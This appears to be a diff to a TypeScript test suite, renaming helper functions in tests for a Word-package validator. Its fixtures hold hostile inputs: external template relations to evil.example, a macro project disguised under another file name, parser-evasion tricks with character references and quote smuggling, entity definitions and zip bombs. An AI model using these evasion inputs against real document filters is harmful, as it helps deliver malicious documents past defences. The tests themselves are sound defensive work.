@@ -5,7 +5,7 @@ import { sampleFile, zip } from "./sample-files.ts";
 const kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
 
 /** A Word document whose settings have one relation. */
-function documentWith(kind: string, target: string, part = "word/_rels/settings.xml.rels") {
+function createDocumentWith(kind: string, target: string, part = "word/_rels/settings.xml.rels") {
   const text = `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="${kinds}/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;
   return zip([
     { name: "[Content_Types].xml" },
@@ -23,9 +23,9 @@ test.each([
 ])(
   "Q-25 a Word document that fetches a %s from %s is refused by the server",
   async (kind, target) => {
-    expect(await isHarmlessWordPackage(documentWith(kind, target))).toBe(false);
+    expect(await isHarmlessWordPackage(createDocumentWith(kind, target))).toBe(false);
     expect(
-      await isHarmlessWordPackage(documentWith(kind, target, "word/_rels/document.xml.rels")),
+      await isHarmlessWordPackage(createDocumentWith(kind, target, "word/_rels/document.xml.rels")),
     ).toBe(false);
   },
 );
@@ -36,7 +36,7 @@ test.each([
   ["hyperlink", "https://ro2ya.example/"],
   ["image", "https://ro2ya.example/logo.png"],
 ])("Q-23 a Word document with a %s at %s is accepted", async (kind, target) => {
-  expect(await isHarmlessWordPackage(documentWith(kind, target))).toBe(true);
+  expect(await isHarmlessWordPackage(createDocumentWith(kind, target))).toBe(true);
 });
 
 test("Q-23 a plain Word document is harmless", async () => {
@@ -44,7 +44,7 @@ test("Q-23 a plain Word document is harmless", async () => {
 });
 
 test("Q-25 relations that cannot be unpacked, or unpack to megabytes, count as bad", async () => {
-  const broken = documentWith("hyperlink", "https://ro2ya.example/");
+  const broken = createDocumentWith("hyperlink", "https://ro2ya.example/");
   const at =
     Buffer.from(broken).indexOf("word/_rels/settings.xml.rels") +
     "word/_rels/settings.xml.rels".length;
@@ -52,14 +52,14 @@ test("Q-25 relations that cannot be unpacked, or unpack to megabytes, count as b
   expect(await isHarmlessWordPackage(broken)).toBe(false);
   expect(
     await isHarmlessWordPackage(
-      documentWith("hyperlink", `https://ro2ya.example/${"x".repeat(2_000_000)}`),
+      createDocumentWith("hyperlink", `https://ro2ya.example/${"x".repeat(2_000_000)}`),
     ),
   ).toBe(false);
 });
 
-const document = (parts: Parameters<typeof zip>[0]) =>
+const createDocument = (parts: Parameters<typeof zip>[0]) =>
   zip([{ name: "[Content_Types].xml" }, { name: "word/document.xml" }, ...parts]);
-const relation = (attributes: string) => [
+const createRelation = (attributes: string) => [
   {
     name: "word/_rels/document.xml.rels",
     text: `<Relationships><Relationship ${attributes}/></Relationships>`,
@@ -69,8 +69,8 @@ const relation = (attributes: string) => [
 test.each([
   [
     "its relation names macros under another file name",
-    document(
-      relation(
+    createDocument(
+      createRelation(
         `Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="notes.bin"`,
       ),
     ),
@@ -87,23 +87,23 @@ test.each([
   ],
   [
     "the relation hides behind a > in its target",
-    document(
-      relation(
+    createDocument(
+      createRelation(
         `Target="http://evil.example/?a>b" Type="${kinds}/attachedTemplate" TargetMode="External"`,
       ),
     ),
   ],
   [
     "the relation hides behind character references",
-    document(
-      relation(
+    createDocument(
+      createRelation(
         `Target="http://evil.example/" Type="${kinds}/attached&#84;emplate" TargetMode="Ext&#x65;rnal"`,
       ),
     ),
   ],
   [
     "the relation stands under a prefix",
-    document([
+    createDocument([
       {
         name: "word/_rels/document.xml.rels",
         text: `<r:Relationships xmlns:r="x"><r:Relationship Target="http://evil.example/" Type="${kinds}/attachedTemplate" TargetMode="External"/></r:Relationships>`,
@@ -112,7 +112,7 @@ test.each([
   ],
   [
     "the relations stand beside a part in another folder",
-    document([
+    createDocument([
       {
         name: "elsewhere/_rels/main.xml.rels",
         text: `<Relationship Target="http://evil.example/" Type="${kinds}/attachedTemplate" TargetMode="External"/>`,
@@ -121,23 +121,23 @@ test.each([
   ],
   [
     "a reference for a quotation mark seems to end its target",
-    document(
-      relation(
+    createDocument(
+      createRelation(
         `Target="&#34; a='http://evil.example/" Type="${kinds}/attachedTemplate" TargetMode="External" b='x'`,
       ),
     ),
   ],
   [
     "another type stands within its target",
-    document(
-      relation(
+    createDocument(
+      createRelation(
         `Target="http://evil.example/ Type='hyperlink'" Type="${kinds}/attachedTemplate" TargetMode="External"`,
       ),
     ),
   ],
   [
     "a relation does not end",
-    document([
+    createDocument([
       {
         name: "word/_rels/document.xml.rels",
         text: `<Relationships><Relationship Type="x" Target="y`,
@@ -146,7 +146,7 @@ test.each([
   ],
   [
     "the relations define entities",
-    document([
+    createDocument([
       {
         name: "word/_rels/document.xml.rels",
         text: `<!DOCTYPE r [<!ENTITY e "External">]><Relationships/>`,
@@ -155,18 +155,22 @@ test.each([
   ],
   [
     "a part unpacks to more than its directory says",
-    document([{ name: "word/media/picture.bin", text: "x".repeat(100_000), unpackedBytes: 10 }]),
+    createDocument([
+      { name: "word/media/picture.bin", text: "x".repeat(100_000), unpackedBytes: 10 },
+    ]),
   ],
   [
     "a part unpacks to less than its directory says",
-    document([{ name: "word/media/picture.bin", text: "x".repeat(10), unpackedBytes: 100_000 }]),
+    createDocument([
+      { name: "word/media/picture.bin", text: "x".repeat(10), unpackedBytes: 100_000 },
+    ]),
   ],
 ])("Q-25 a Word document is refused where %s", async (_where, bytes) => {
   expect(await isHarmlessWordPackage(bytes)).toBe(false);
 });
 
 test("Q-25 a bomb of which the directory says little is left at its first byte too many", async () => {
-  const bomb = document([
+  const bomb = createDocument([
     { name: "word/media/picture.bin", text: "\0".repeat(50_000_000), unpackedBytes: 10 },
   ]);
   expect(bomb.length).toBeLessThan(100_000);
@@ -174,7 +178,7 @@ test("Q-25 a bomb of which the directory says little is left at its first byte t
 });
 
 test("Q-25 a hundred thousand relations that do not end are refused at the first", async () => {
-  const bytes = document([
+  const bytes = createDocument([
     { name: "word/_rels/document.xml.rels", text: "<Relationship ".repeat(70_000) },
   ]);
   const before = process.threadCpuUsage();
